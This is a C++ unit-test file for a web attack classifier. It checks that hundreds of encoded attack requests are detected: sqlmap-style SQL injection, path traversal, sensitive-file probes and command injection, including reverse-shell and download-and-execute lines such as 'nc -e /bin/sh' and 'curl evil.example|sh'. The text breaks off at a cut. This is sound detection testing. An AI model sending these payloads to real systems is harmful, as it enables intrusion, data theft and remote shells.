// Attack requests below are written from the published shapes of each attack class and CVE (OWASP
// testing guides, vendor advisories, public detection write-ups), encoded by hand the way evasive
// clients send them; every one goes through normalizeTarget() first, as in production. The benign
// set imitates ordinary site traffic, including the shapes that trip naive signatures (SQL words
// in searches, apostrophes, JSON and JWTs in query strings, Japanese text, tracking parameters).
#include "mamori/detect/classifier.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "mamori/detect/category.h"
#include "mamori/detect/normalize.h"

namespace mamori::detect {
namespace {

constexpr std::string_view kChrome =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36";
constexpr std::string_view kFirefox =
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0";
constexpr std::string_view kSafari =
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4.1 Safari/605.1.15";
constexpr std::string_view kIphone =
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.4 Mobile/15E148 Safari/604.1";
constexpr std::string_view kAndroid =
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.6367.82 Mobile Safari/537.36";
constexpr std::string_view kEdge =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67";
constexpr std::string_view kGooglebot =
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
constexpr std::string_view kBingbot =
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";

struct Req {
  std::string_view target;
  std::string_view userAgent = kChrome;
  std::string_view referer = "";
  std::string_view method = "GET";
  std::string_view host = "";
};

class ClassifierFixture : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (classifier_ != nullptr) return;
    auto c = Classifier::create();
    ASSERT_TRUE(c.ok()) << c.error().message;
    classifier_ = std::move(c).value().release();
  }

  static Detection classify(const Req& r) {
    HttpRequestLine line;
    line.method = std::string(r.method);
    line.target = std::string(r.target);
    line.userAgent = std::string(r.userAgent);
    line.referer = std::string(r.referer);
    line.host = std::string(r.host);
    NormalizedRequest n;
    normalizeTarget(line.target, n);
    Detection d;
    classifier_->classify(line, n, d);
    return d;
  }

  static std::string describe(const Detection& d) {
    std::string s;
    for (std::size_t c = 0; c < kCategoryCount; ++c) {
      if (hasCategory(d.categories, static_cast<Category>(c))) {
        s += std::string(categoryName(static_cast<Category>(c))) + "(" +
             std::to_string(d.ruleIds[c]) + ") ";
      }
    }
    return s.empty() ? "none" : s;
  }

  static bool hasCve(const Detection& d, std::string_view cve) {
    return std::find(d.cves.begin(), d.cves.begin() + d.cveCount, cve) !=
           d.cves.begin() + d.cveCount;
  }

  static void expectAll(Category c, const std::vector<Req>& attacks) {
    for (const Req& r : attacks) {
      const Detection d = classify(r);
      EXPECT_TRUE(hasCategory(d.categories, c))
          << categoryName(c) << " missed: " << r.target << " | ua=" << r.userAgent
          << " | referer=" << r.referer << " | host=" << r.host << " -> " << describe(d);
      EXPECT_NE(d.ruleIds[static_cast<std::size_t>(c)], 0u) << r.target;
    }
  }

  // Sends each value as a query parameter, percent-encoded as a client would (everything but
  // RFC 3986 unreserved characters), and reports every value the category misses.
  static void expectValues(Category c, std::string_view prefix,
                           const std::vector<std::string_view>& values) {
    std::size_t missed = 0;
    for (const std::string_view v : values) {
      std::string target(prefix);
      for (const char ch : v) {
        const auto b = static_cast<unsigned char>(ch);
        if ((b >= 'a' && b <= 'z') || (b >= 'A' && b <= 'Z') || (b >= '0' && b <= '9') ||
            b == '-' || b == '.' || b == '_' || b == '~') {
          target.push_back(ch);
        } else {
          static constexpr char kHex[] = "0123456789ABCDEF";
          target.push_back('%');
          target.push_back(kHex[b >> 4]);
          target.push_back(kHex[b & 15]);
        }
      }
      const Detection d = classify({target});
      if (!hasCategory(d.categories, c)) {
        ++missed;
        ADD_FAILURE() << categoryName(c) << " missed: " << v << "  (" << target << ") -> "
                      << describe(d);
      }
    }
    EXPECT_EQ(missed, 0u) << "of " << values.size();
  }

  static Classifier* classifier_;
};

Classifier* ClassifierFixture::classifier_ = nullptr;

using ClassifierSqli = ClassifierFixture;
using ClassifierTraversal = ClassifierFixture;
using ClassifierSensitiveFile = ClassifierFixture;
using ClassifierCommandInjection = ClassifierFixture;
using ClassifierXss = ClassifierFixture;
using ClassifierSsti = ClassifierFixture;
using ClassifierLog4shell = ClassifierFixture;
using ClassifierSsrf = ClassifierFixture;
using ClassifierScanner = ClassifierFixture;
using ClassifierExploit = ClassifierFixture;
using ClassifierBenign = ClassifierFixture;
using ClassifierSemantics = ClassifierFixture;

// ------------------------------------------------------------------ build and rule table

TEST(ClassifierBuild, EveryPatternCompiles) {
  auto c = Classifier::create();
  ASSERT_TRUE(c.ok()) << c.error().message;
  ASSERT_NE(c.value(), nullptr);
}

// The compiled databases are cached; a second classifier loads them and classifies the same, and a
// damaged cache file is replaced by a fresh compile, never trusted and never an error.
TEST(ClassifierBuild, CompiledDatabasesAreCachedAndDamagedCachesRecompiled) {
  const auto dir = std::filesystem::temp_directory_path() /
                   ("mamori-classifier-cache-" + std::to_string(::getpid()));
  std::filesystem::remove_all(dir);
  auto first = Classifier::create(dir);
  ASSERT_TRUE(first.ok()) << first.error().message;
  EXPECT_FALSE(first.value()->loadedFromCache());
  std::vector<std::filesystem::path> files;
  for (const auto& e : std::filesystem::directory_iterator(dir)) files.push_back(e.path());
  ASSERT_EQ(files.size(), 1U);
  EXPECT_EQ(std::filesystem::status(dir).permissions() & std::filesystem::perms::all,
            std::filesystem::perms::owner_all);

  auto second = Classifier::create(dir);
  ASSERT_TRUE(second.ok()) << second.error().message;
  EXPECT_TRUE(second.value()->loadedFromCache());
  const std::vector<std::string> targets = {
      "/item?id=1%27%20union%20select%201,2--", "/../../etc/passwd",
      "/remote/fgt_lang?lang=/../../x", "/index.html", "/q?s=%3Cscript%3Ealert(1)%3C/script%3E"};
  for (const auto& t : targets) {
    HttpRequestLine line;
    line.method = "GET";
    line.target = t;
    NormalizedRequest n;
    normalizeTarget(line.target, n);
    Detection a;
    Detection b;
    first.value()->classify(line, n, a);
    second.value()->classify(line, n, b);
    EXPECT_EQ(a.categories, b.categories) << t;
    EXPECT_EQ(a.ruleIds, b.ruleIds) << t;
  }

  // One flipped byte in the middle of the file, then a truncated file.
  for (int damage = 0; damage < 2; ++damage) {
    std::string bytes;
    {
      std::ifstream in(files[0], std::ios::binary);
      bytes.assign(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
    }
    ASSERT_GT(bytes.size(), 100U);
    if (damage == 0) {
      bytes[bytes.size() / 2] = static_cast<char>(bytes[bytes.size() / 2] ^ 0x40);
    } else {
      bytes.resize(bytes.size() / 3);
    }
    std::ofstream(files[0], std::ios::binary | std::ios::trunc) << bytes;
    auto again = Classifier::create(dir);
    ASSERT_TRUE(again.ok()) << again.error().message;
    EXPECT_FALSE(again.value()->loadedFromCache()) << "damage " << damage;
    auto after = Classifier::create(dir);
    ASSERT_TRUE(after.ok());
    EXPECT_TRUE(after.value()->loadedFromCache()) << "the recompiled databases were saved again";
  }
  std::filesystem::remove_all(dir);
}

TEST(ClassifierBuild, RuleIdsAreUniqueAndSorted) {
  const auto rules = Classifier::rules();
  ASSERT_FALSE(rules.empty());
  for (std::size_t i = 1; i < rules.size(); ++i) {
    EXPECT_LT(rules[i - 1].id, rules[i].id) << "at index " << i;
  }
}

TEST(ClassifierBuild, EveryCategoryHasRulesAndEveryRuleIsDescribed) {
  std::set<Category> seen;
  for (const RuleInfo& r : Classifier::rules()) {
    seen.insert(r.category);
    EXPECT_FALSE(r.description.empty()) << r.id;
    // Exploit rules exist to name the CVE an analyst looks up.
    if (r.category == Category::kExploit) {
      EXPECT_TRUE(r.cve.starts_with("CVE-")) << r.id;
    }
    if (!r.cve.empty()) {
      EXPECT_TRUE(r.cve.starts_with("CVE-")) << r.id;
    }
  }
  EXPECT_EQ(seen.size(), kCategoryCount);
}

TEST(ClassifierBuild, TokenizerRuleIsListed) {
  const auto rules = Classifier::rules();
  const auto it = std::find_if(rules.begin(), rules.end(),
                               [](const RuleInfo& r) { return r.id == kSqliTokenizerRuleId; });
  ASSERT_NE(it, rules.end());
  EXPECT_EQ(it->category, Category::kSqli);
}

TEST(CategoryNames, RoundTrip) {
  const std::vector<std::string_view> expected = {
      "sqli", "path-traversal", "sensitive-file", "command-injection", "xss",
      "ssti", "log4shell",      "ssrf",           "scanner",           "exploit"};
  ASSERT_EQ(expected.size(), kCategoryCount);
  for (std::size_t i = 0; i < kCategoryCount; ++i) {
    const auto c = static_cast<Category>(i);
    EXPECT_EQ(categoryName(c), expected[i]);
    const auto back = parseCategory(expected[i]);
    ASSERT_TRUE(back.has_value()) << expected[i];
    EXPECT_EQ(*back, c);
  }
}

TEST(CategoryNames, UnknownNamesAreRejected) {
  EXPECT_FALSE(parseCategory("").has_value());
  EXPECT_FALSE(parseCategory("SQLI").has_value());
  EXPECT_FALSE(parseCategory("path_traversal").has_value());
  EXPECT_FALSE(parseCategory("sqli ").has_value());
}

TEST(CategoryNames, MaskHelpers) {
  CategoryMask m = maskOf(Category::kSqli) | maskOf(Category::kExploit);
  EXPECT_TRUE(hasCategory(m, Category::kSqli));
  EXPECT_TRUE(hasCategory(m, Category::kExploit));
  EXPECT_FALSE(hasCategory(m, Category::kXss));
}

// ------------------------------------------------------------------ sqli

TEST_F(ClassifierSqli, SignaturesCatchInjectionShapes) {
  expectAll(Category::kSqli,
            {
                {"/item.php?id=1%20UNION/**/SELECT%20NULL,NULL--"},
                {"/item.php?id=-1+union+all+select+1,2,3--"},
                {"/item.php?id=1/*!50000UNION*/%20SELECT%201,2"},
                {"/p?id=1%2527%2520AND%2520SLEEP(5)--"},  // double encoding
                {"/p?q=1%27);WAITFOR%20DELAY%20%270:0:5%27--"},
                {"/p?id=1%20AND%201=(SELECT%20COUNT(*)%20FROM%20information_schema.tables)"},
                {"/p?id=1;EXEC%20master..xp_cmdshell%20%27dir%27"},
                {"/login?user=admin%27--"},
                {"/p?id=1%27%20OR%20%271%27=%271"},
                {"/p?id=1%u0027%20or%201=1--"},   // IIS %u
                {"/p?id=1%c0%a7%20or%202=2%23"},  // overlong quote, %23 comment
                {"/p?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,version()))"},
                {"/p?id=1%20ORDER%20BY%2010--"},
                {"/p?id=1%27%20PROCEDURE%20ANALYSE()--"},
                {"/p?id=1/**/INTO/**/OUTFILE/**/%27/var/www/html/s.php%27"},
                {"/p?id=1%20aNd%20BeNcHmArK(5000000,MD5(1))"},  // mixed case
                {"/p?name=x%27;DROP%20TABLE%20users;--"},
                {"/", "Mozilla/5.0' or sleep(5)#"},
                {"/", kChrome, "http://example.com/?id=1 union select null,null,@@version"},
            });
}

// The next tests rely on the SQL tokenizer (sqli.h): values no signature above is specific enough
// to catch without false positives on search text.
TEST_F(ClassifierSqli, TokenizerQueryValue) {
  const Detection d = classify({"/products?id=1%20or%201%3D1"});
  ASSERT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
  EXPECT_EQ(d.ruleIds[static_cast<std::size_t>(Category::kSqli)], kSqliTokenizerRuleId);
  EXPECT_GE(std::strlen(d.sqliFingerprint.data()), 2u);
}

TEST_F(ClassifierSqli, TokenizerPathSegment) {
  const Detection d = classify({"/products/1%20and%20not%201=2/reviews"});
  EXPECT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
}

TEST_F(ClassifierSqli, TokenizerRefererAndUserAgent) {
  Detection d =
      classify({"/", kChrome, "https://example.com/list?sort=name&id=2%20union%20select%201"});
  EXPECT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
  d = classify({"/", "x' and 1=1 and 'a'='a"});
  EXPECT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
}

TEST_F(ClassifierSqli, TokenizerParameterWithoutEquals) {
  const Detection d = classify({"/list?1%20union%20select%201,2"});
  EXPECT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
}

// Attack values written for this test from the request shapes of sqlmap's techniques (boolean,
// error, time, UNION, stacked) and its tamper scripts, and from hand-written attacks on MySQL,
// PostgreSQL, MSSQL, Oracle and SQLite. Each is the decoded value of a query parameter; the test
// percent-encodes it as a client would send it.
TEST_F(ClassifierSqli, TechniquesDialectsAndTamperScripts) {
  const std::vector<std::string_view> values = {
      // Boolean-based blind (sqlmap boundaries: numeric, quoted, parenthesised, LIKE).
      R"v(1 AND 5678=5678)v",
      R"v(1) AND 5678=5678 AND (3456=3456)v",
      R"v(1' AND 5678=5678 AND 'abcd'='abcd)v",
      R"v(1') AND 5678=5678 AND ('abcd'='abcd)v",
      R"v(1')) AND 5678=5678 AND (('abcd'='abcd)v",
      R"v(1' AND 5678=5678-- -)v",
      R"v(1 AND 5678=5678-- abcd)v",
      R"v(-7134 OR 4123=4123)v",
      R"v(-7134' OR 4123=4123#)v",
      R"v(1%' AND 5678=5678 AND '%'=')v",
      R"v(1" AND 5678=5678 AND "abcd"="abcd)v",
      R"v(1 OR NOT 5678=5679)v",
      R"v(1 AND 5678=5678 AND 9227=9227-- sp_password)v",
      R"v(1 RLIKE (SELECT (CASE WHEN (5678=5678) THEN 1 ELSE 0x28 END)))v",
      R"v(1' RLIKE (SELECT (CASE WHEN (5678=5678) THEN 0x61 ELSE 0x28 END))-- -)v",
      R"v(1 AND MAKE_SET(5678=5678,1234))v",
      R"v(1 AND ELT(5678=5678,1234))v",
      R"v((SELECT (CASE WHEN (5678=5678) THEN 1 ELSE (SELECT 4567 UNION SELECT 8901) END)))v",
      R"v(1,(SELECT (CASE WHEN (5678=5678) THEN 1 ELSE 5678*(SELECT 5678 FROM INFORMATION_SCHEMA.PLUGINS) END)))v",
      R"v(1 AND 5678=(SELECT (CASE WHEN (5678=5678) THEN 5678 ELSE (SELECT 4567 UNION SELECT 8901) END))-- -)v",
      R"v(1 AND (SELECT 'a' FROM DUAL)='a')v",
      R"v(1 and ascii(substring(user(),1,1))>64)v",
      R"v(1 and substring(@@version,1,1)=5)v",
      R"v(1 and length(database())=8)v",
      R"v(1 and (select substring(password,1,1) from users where username='admin')='a')v",
      R"v(1' and (select count(*) from users)>0-- -)v",
      R"v(x' and ascii(substring((select database()),1,1))>100-- -)v",
      R"v(1 and 1 regexp 1)v",
      R"v(1' rlike '1)v",
      R"v(1 and (select 1)regexp if(1=1,1,0x00))v",
      R"v(1 and elt(1=1,sleep(5)))v",
      R"v(1 and make_set(1=1,sleep(5)))v",
      R"v(1 having 1=1--)v",
      R"v(1' having 1=1-- -)v",
      R"v(1 group by 1,2,3-- -)v",
      R"v(1' ORDER BY 3#)v",
      R"v(1 div 0 or 1=1)v",
      R"v(1 xor 1=1)v",
      R"v(if(1=1,1,0))v",
      R"v(1 and if(1=1,sleep(5),0))v",
      // Values with text before the injection.
      R"v(abc' AND 1=1-- -)v",
      R"v(john' OR 'x'='x)v",
      R"v(shoes' UNION SELECT NULL,NULL--)v",
      R"v(test'||(SELECT '')||')v",
      R"v(search term' ORDER BY 5-- -)v",
      R"v(blue%' and 1=1 and '%'=')v",
      R"v(admin' or '1'='1'#)v",
      R"v(1' or 1=1 or ''=')v",
      R"v(1'||'1'='1)v",
      R"v(1")) or (("1"="1)v",
      R"v(%' or '0'='0)v",
      R"v(1'-sleep(5)-')v",
      R"v('=')v",
      R"v(' or 1 -- -)v",
      // Error-based.
      R"v(1 AND EXTRACTVALUE(5678,CONCAT(0x5c,0x71787a7871,(SELECT (ELT(5678=5678,1))),0x71706b7071)))v",
      R"v(1 AND UPDATEXML(5678,CONCAT(0x2e,0x71,(SELECT (ELT(5678=5678,1))),0x71),5678))v",
      R"v(1 AND (SELECT 5678 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(5678=5678,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a))v",
      R"v(1 OR (SELECT 5678 FROM(SELECT COUNT(*),CONCAT(0x71,version(),FLOOR(RAND(0)*2))x FROM users GROUP BY x)a))v",
      R"v(1 AND EXP(~(SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(5678=5678,1))),0x71,0x78))x)))v",
      R"v(1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x71,(SELECT (ELT(5678=5678,1))),0x71)) USING utf8))))v",
      R"v(1 AND 5678=CAST((CHR(113)||CHR(120))||(SELECT (CASE WHEN (5678=5678) THEN 1 ELSE 0 END))::text||(CHR(113)) AS NUMERIC))v",
      R"v(1 AND 5678 IN (SELECT (CHAR(113)+CHAR(120)+(SELECT (CASE WHEN (5678=5678) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113))))v",
      R"v(1' AND 5678=CONVERT(INT,(SELECT CHAR(113)+CHAR(120)+(SELECT @@version)))-- -)v",
      R"v(1 AND 1=CONVERT(int,@@version))v",
      R"v(1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects)))v",
      R"v(1' AND 1=(SELECT TOP 1 CAST(name AS varchar) FROM sys.databases)--)v",
      R"v(1 AND 5678=CTXSYS.DRITHSX.SN(5678,(CHR(113)||CHR(120)||(SELECT (CASE WHEN (5678=5678) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113))))v",
      R"v(1 AND 5678=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT (CASE WHEN (5678=5678) THEN 1 ELSE 0 END) FROM DUAL)||CHR(62))) FROM DUAL))v",
      R"v(1' AND 5678=UTL_INADDR.GET_HOST_ADDRESS(CHR(113)||CHR(120))-- )v",
      R"v(1 AND 1=CAST(version() AS int))v",
      R"v(1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1))v",
      // Time-based blind.
      R"v(1 AND SLEEP(5))v",
      R"v(1' AND SLEEP(5) AND 'abcd'='abcd)v",
      R"v(1 AND (SELECT 5678 FROM (SELECT(SLEEP(5)))abcd))v",
      R"v(1' AND (SELECT 5678 FROM (SELECT(SLEEP(5)))abcd)-- abcd)v",
      R"v(1 OR SLEEP(5)#)v",
      R"v(1;SELECT SLEEP(5)#)v",
      R"v(1;SELECT PG_SLEEP(5)--)v",
      R"v(1 AND 5678=(SELECT 5678 FROM PG_SLEEP(5)))v",
      R"v(1';WAITFOR DELAY '0:0:5'--)v",
      R"v(1 WAITFOR DELAY '0:0:5')v",
      R"v(1) WAITFOR DELAY '0:0:5'--)v",
      R"v(';if (1=1) waitfor delay '0:0:5'--)v",
      R"v(1;IF(SUBSTRING(USER,1,1)='d') WAITFOR DELAY '0:0:5'--)v",
      R"v(1 AND 5678=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5))v",
      R"v(1 AND 5678=LIKE(CHAR(65,66,67),UPPER(HEX(RANDOMBLOB(500000000/2)))))v",
      R"v(1 AND 5678=BENCHMARK(5000000,MD5(0x41424344)))v",
      R"v(if(now()=sysdate(),sleep(5),0))v",
      R"v(0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z)v",
      R"v("XOR(if(now()=sysdate(),sleep(5),0))XOR")v",
      R"v((select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'"+(select(0)from(select(sleep(5)))v)+"*/)v",
      R"v(1'||pg_sleep(5)--)v",
      R"v(1||(SELECT pg_sleep(5)))v",
      R"v(1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--)v",
      R"v(1 and 1=(select count(*) from all_users t1, all_users t2, all_users t3))v",
      R"v(1 AND GET_LOCK('abcd',5))v",
      R"v(1' AND sleep(5*1)-- -)v",
      // UNION-based.
      R"v(-1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x72)-- -)v",
      R"v(1' UNION ALL SELECT NULL,NULL,NULL#)v",
      R"v(-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- -)v",
      R"v(1) UNION ALL SELECT NULL,NULL-- -)v",
      R"v(-1 UNION SELECT username||':'||password FROM users--)v",
      R"v(' UNION SELECT NULL,banner FROM v$version--)v",
      R"v(' UNION SELECT name,NULL FROM sqlite_master WHERE type='table'--)v",
      R"v(0 union select 1,load_file('/etc/passwd'),3)v",
      R"v(1 UNION SELECT NULL,name FROM master..sysdatabases--)v",
      R"v(' UNION SELECT NULL,NULL FROM DUAL--)v",
      R"v(-.1UNION SELECT 1,2)v",
      R"v(1e0UNION SELECT 1,2)v",
      R"v(' OR JSON_LENGTH("{}") <= 8896 UNION DISTINCT SELECT @@version #)v",
      // Stacked queries.
      R"v(1; DROP TABLE users--)v",
      R"v(1'; EXEC xp_cmdshell('ping 10.0.0.1')--)v",
      R"v(1; EXEC sp_configure 'show advanced options',1; RECONFIGURE--)v",
      R"v(1';INSERT INTO users(username,password) VALUES('hacker','x')--)v",
      R"v(1'; UPDATE users SET password='x' WHERE username='admin'--)v",
      R"v(1; COPY (SELECT '') TO PROGRAM 'id'--)v",
      R"v(1';CREATE TABLE cmd_exec(cmd_output text);--)v",
      R"v(1; DECLARE @q VARCHAR(99);SET @q='\\x.example.net\a';EXEC master.dbo.xp_dirtree @q--)v",
      R"v(1; SELECT @@version--)v",
      // Dialect specifics.
      R"v(' OR 1=1 AND ROWNUM=1--)v",
      R"v(1 AND (SELECT COUNT(*) FROM all_users)>0)v",
      R"v('||(SELECT utl_http.request('http://203.0.113.9/'||user) FROM dual)||')v",
      R"v(1 AND unicode(substr((SELECT sql FROM sqlite_master),1,1))>64)v",
      R"v(' AND randomblob(1000000000)--)v",
      R"v(1 AND 'a'::text='a')v",
      R"v(1 AND (SELECT current_setting('is_superuser'))='on')v",
      R"v(1 AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END))v",
      R"v(1 OR '{"b":2}'::jsonb <@ '{"a":1,"b":2}'::jsonb)v",
      R"v(1 AND JSON_EXTRACT('{"id":14}','$.id')=14)v",
      R"v(1 and @@version like '%5%')v",
      R"v(1 AND db_name()=db_name())v",
      R"v(1' AND EXTRACTVALUE(xmltype('<x/>'),'/l') IS NOT NULL--)v",
      // Tamper scripts (the decoded value the server sees).
      R"v(1/**/AND/**/5678=5678)v",
      R"v(-1/**/UNION/**/ALL/**/SELECT/**/NULL,NULL--)v",
      "1--abcd\nAND--abcd\n5678=5678",
      "1#abcd\nAND#abcd\n5678=5678",
      "1%23ngfhj\nAND%23\n5678=5678",
      "1\x01"
      "AND\x0b"
      "5678=5678",
      "1\rAND\f5678=5678",
      "1\tAND\t5678\tLIKE\t5678",
      R"v(1 AnD 5678=5678)v",
      R"v(1 AND 5678 BETWEEN 5678 AND 5678)v",
      R"v(1 AND 5678 NOT BETWEEN 0 AND 5677)v",
      R"v(1 AND 5678 LIKE 5678)v",
      R"v(1 AND GREATEST(5678,5677+1)=5678)v",
      R"v(1 AND LEAST(5678,5679)=5678)v",
      R"v(1 /*!30874AND 2>1*/--)v",
      R"v(1 /*!00000AND 2>1*/--)v",
      R"v(1'/*!0UNION/*!0ALL/*!0SELECT/*!0CONCAT(/*!0CHAR(58,107,112,113,58),/*!0IFNULL(CAST(/*!0CURRENT_USER()/*!0AS/*!0CHAR),/*!0CHAR(32)),/*!0CHAR(58,97,110,121,58)),/*!0NULL,/*!0NULL#/*!0AND 'QDWa'='QDWa)v",
      R"v(1/*!UNION*//*!ALL*//*!SELECT*//*!NULL*/,/*!NULL*/#)v",
      R"v(1 /*!50000union*/ /*!50000all*/ /*!50000select*/ 1,2,3)v",
      R"v(1 /*!50000and*/ 1=1)v",
      R"v(1 && 5678=5678)v",
      R"v(1 || 1=1)v",
      R"v(1 AND IF(ISNULL(CAST(CURRENT_USER() AS CHAR)),0x20,CAST(CURRENT_USER() AS CHAR))=0x20)v",
      R"v(-1 UNION SELECT CONCAT_WS(MID(CHAR(0),0,0),0x71,version(),0x71)-- -)v",
      R"v(1 AND MID(VERSION() FROM 1 FOR 1)=5)v",
      R"v(1 AND 1=1 LIMIT 1 OFFSET 0-- -)v",
      R"v(1 AND ORD(MID((SELECT IFNULL(CAST(COUNT(*) AS NCHAR),0x20) FROM users),1,1))>51)v",
      R"v(1 and 1=1 union select 1,table_name from information_schema/**/.tables)v",
      R"v(1 %A%N%D 5678=5678)v",
      R"v(1 U/**/NION S/**/ELECT 1,2)v",
      "1\xa0"
      "AND\xa0"
      "5678=5678",
      R"v(1＇ AND 1=1-- -)v",
      // Generic probes of hand testing and fuzzing lists.
      R"v(' or ''-')v",
      R"v('||''||')v",
      R"v('=0--+)v",
      R"v(" or 0=0 --)v",
      R"v(hi' or 'x'='x';)v",
      R"v(x' AND email IS NULL; --)v",
      R"v(' or 1 in (select @@version)--)v",
      R"v('; shutdown--)v",
      R"v(' and 1 in (select min(name) from sysobjects where xtype = 'U' and name > '.') --)v",
      R"v(1' or '1'='1'))/*)v",
      R"v(admin" --)v",
      R"v(admin") or ("1"="1)v",
      R"v(1' GROUP BY 1,2,--+)v",
      R"v(' GROUP BY columnnames having 1=1 --)v",
      R"v(-1 UNION SELECT 1 INTO @,@,@)v",
      R"v(1 AND (SELECT * FROM Users) = 1)v",
      R"v(' AND MID(VERSION(),1,1) = '5';)v",
      R"v(,(select * from (select(sleep(10)))a))v",
      R"v(' or sleep(5)=')v",
      R"v(")) or sleep(5)=")v",
      R"v();waitfor delay '0:0:5'--)v",
      R"v(benchmark(10000000,MD5(1))#)v",
      R"v(pg_sleep(5)--)v",
      R"v(ORDER BY SLEEP(5))v",
      R"v(' + SLEEP(10) + ')v",
      R"v(SLEEP(1)/*' or SLEEP(1) or '" or SLEEP(1) or "*/)v",
      R"v(1' and '1'='1)v",
      R"v(' or username like '%)v",
      R"v(1 or true--)v",
  };
  expectValues(Category::kSqli, "/page?id=", values);
}

// ------------------------------------------------------------------ path traversal

TEST_F(ClassifierTraversal, Evasions) {
  expectAll(Category::kPathTraversal,
            {
                {"/../../etc/passwd"},
                {"/a/%2e%2e/%2e%2e/%2e%2e/etc/passwd"},
                {"/a/..%c0%af..%c0%af..%c0%afetc/passwd"},  // overlong '/'
                {"/a/..%5c..%5c..%5cwindows%5cwin.ini"},    // backslashes
                {"/download?file=..%2F..%2F..%2Fetc%2Fpasswd"},
                {"/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"},
                {"/manager/..;/html"},                  // Tomcat path parameter
                {"/view?page=....//....//etc/passwd"},  // stripped-once evasion
                {"/show?file=/etc/passwd"},             // absolute path parameter
                {"/img?f=..%5C..%5Cboot.ini"},
                {"/x?template=../config.php"},
                {"/a/b/%u002e%u002e/%u002e%u002e/secret"},  // %u, stays under the root
                {"/static/..%00/..%00/etc/passwd"},         // NUL bytes
                {"/files?path=c:\\windows\\win.ini"},
                {"/A/%2E%2E/%2E%2E/%2E%2E/ETC/PASSWD"},  // upper case
            });
}

// ------------------------------------------------------------------ sensitive files

TEST_F(ClassifierSensitiveFile, CommonProbesAndEvasions) {
  expectAll(Category::kSensitiveFile,
            {
                {"/.env"},
                {"/%2eenv"},
                {"/api/.env.production"},
                {"/.git/config"},
                {"/.git/HEAD"},
                {"/.SVN/entries"},
                {"/wp-config.php.bak"},
                {"/wp-config.php~"},
                {"/backup.zip"},
                {"/db.sql"},
                {"/example.com.tar.gz"},
                {"/.DS_Store"},
                {"/.htpasswd"},
                {"/phpinfo.php"},
                {"/server-status"},
                {"/.aws/credentials"},
                {"/docker-compose.yml"},
                {"/config.php~"},
                {"/index.php.swp"},
                {"/.ssh/id_rsa"},
                {"/web.config"},
                {"/proc/self/environ"},
                {"/index.php?file=..%2f..%2f..%2f..%2fetc%2fshadow"},
                {"/cgi-bin/..%5c..%5cwinnt%5cwin.ini"},
                {"/view?f=%2Fetc%2Fpasswd%00.jpg"},
                {"/server.key"},
                {"/backup.sql%00.html"},  // the server stops at the NUL
                {"/config/secrets.yml%2500.jpg"},
                {"/download?file=..%5C..%5Cconfig%5Cdatabase.yml"},
                {"/index.php?page=php://filter/convert.base64-encode/resource=index.php"},
            });
}

// ------------------------------------------------------------------ command injection

TEST_F(ClassifierCommandInjection, SeparatorsCommandsAndEvasions) {
  expectAll(Category::kCommandInjection,
            {
                {"/ping?host=127.0.0.1;cat%20/etc/passwd"},
                {"/ping?host=127.0.0.1%7Cid"},
                {"/cgi?x=%60whoami%60"},
                {"/c?ip=1.1.1.1$(wget%20http://198.51.100.7/x.sh)"},
                {"/c?ip=1%0Auname%20-a"},
                {"/c?cmd=;${IFS}cat${IFS}/etc/passwd"},
                {"/c?x=127.0.0.1%26%26curl%20evil.example|sh"},
                {"/c?x=|powershell%20-enc%20AAAA"},
                {"/c?x=;w%27%27hoami"},  // empty quotes inside a command name
                {"/c?x=%3Bnc%20-e%20/bin/sh%2010.0.0.1%204444"},
                {"/c?x=%253Bping%2520-c%25203%2520198.51.100.9"},  // double encoding
                {"/c?x=%26%26cmd.exe%20/c%20dir"},
                {"/index.php?page=php://input"},
                {"/", "() { :; }; /bin/bash -c \"cat /etc/passwd\""},
                {"/c?x={cat,/etc/passwd}"},
                {"/viewer?doc=%26+net+user"},  // '&' then a space: no parameter starts so
                {"/download?file=file.txt;%09ls"},
            });
}

// Attack values written for this test from the shapes of published command-injection payload
